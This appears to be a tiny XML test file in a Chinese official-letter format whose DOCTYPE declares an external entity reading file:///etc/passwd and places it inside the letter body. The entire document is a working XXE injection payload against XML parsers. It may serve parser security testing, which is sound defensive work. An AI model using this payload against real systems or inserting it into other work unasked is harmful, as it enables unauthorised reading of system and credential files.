<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE 函 [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<函><主旨><文字>&xxe;</文字></主旨></函>
